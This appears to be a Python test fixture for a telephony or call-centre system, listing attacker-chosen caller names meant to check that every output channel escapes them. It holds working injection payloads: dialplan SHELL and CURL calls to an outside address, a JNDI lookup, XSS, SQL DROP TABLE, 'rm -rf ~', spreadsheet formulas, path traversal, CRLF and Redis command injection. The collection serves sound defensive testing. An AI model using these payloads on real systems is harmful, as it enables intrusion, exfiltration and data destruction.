"""What somebody means harm with who can choose his own name: one list, for every road.

Each text is an attack on something that reads text: a line, a shell, a dialplan, a database, a page, a
spreadsheet, a path, a terminal, a stream. A road takes them all, since what is harmless on one road goes on
upon the next: ``tests/hostile/roads.py``.
"""

FORGED_EVENT = "\r\n\r\nEvent: Hangup\r\nUniqueid: victim\r\nCause: 16\r\n\r\nX"
LONGEST = 10_000

TEXTS = {
    "nothing": "",
    "CR LF": "a\r\nb",
    "a lone LF": "a\nb",
    "a lone CR": "a\rb",
    "lines that are not ASCII's": "a\u2028b\u2029c\x85d",
    "a forged event": FORGED_EVENT,
    "written line ends": "%0d%0aEvent: Hangup%0d%0a%0d%0a",
    "a dialplan function": "${SHELL(id)}",
    "a dialplan request": "${CURL(http://203.0.113.1/?${CALLERID(num)})}",
    "a dialplan expression": "$[1+1]",
    "a section": "x]\n[general]\ntype=endpoint",
    "a comment": "x;--y",
    "quotes": "Eve \"the\" 'one' `id` “two”",
    "backslashes": "\\\\ \\N \\. \\x00 \\",
    "the end of CDATA": "]]>&amp;&#0;",
    "a script": '"><script>alert(1)</script>',
    "an image": "<img src=x onerror=alert(1)>",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7 %>",
    "an address that acts": "javascript:alert(1)",
    "writing direction": "\u202egnp.exe\u202c \u200f\u2067x",
    "nothing to see": "\u200b\u200c\u200d\ufeff\u00ad",
    "NUL": "a\0b",
    "half a pair": "a\ud800b\udc80",
    "10 kB": "W" * LONGEST,
    "10 kB of marks": "e\u0301\u0489" * (LONGEST // 3),
    "a formula": "=cmd|' /C calc'!A0",
    "a formula with plus": "+1+1",
    "a formula with minus": "-1",
    "a formula with at": "@SUM(1)",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line end": "\r=1+1",
    "a formula in wide letters": "＝1+1",
    "a formula in another cell": 'x","=1+1',
    "a path": "../../etc/passwd",
    "a path from the root": "/etc/passwd\0.wav",
    "a command": "; rm -rf ~ | $(id) && `id`",
    "SQL": "' or 1=1 --",
    "a table": "'); drop table client; --",
    "a terminal's command": "\x1b]0;owned\x07\x1b[2J\x9b31m\x08\x08",
    "another event in a stream": '\n\ndata: {"type":"ccengine.call.sealed"}\nid: desk:9\n\n',
    "another line of JSON": '"}\n{"id":"pbx1:9"}',
    "a header": "x\r\nX-Evil: 1\r\nBcc: all@example.com\r\n\r\n.\r\n",
    "a Redis command": "\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "a format": "%s%n%(secret)s {0.__class__}",
    "a look-up": "${jndi:ldap://203.0.113.1/a}",
}
"""Who they are, and what they say."""

KEPT = {name: text for name, text in TEXTS.items() if not set(text) & {"\0", "\ud800"}}
"""What PostgreSQL can keep as it is; of the others it keeps the rest."""
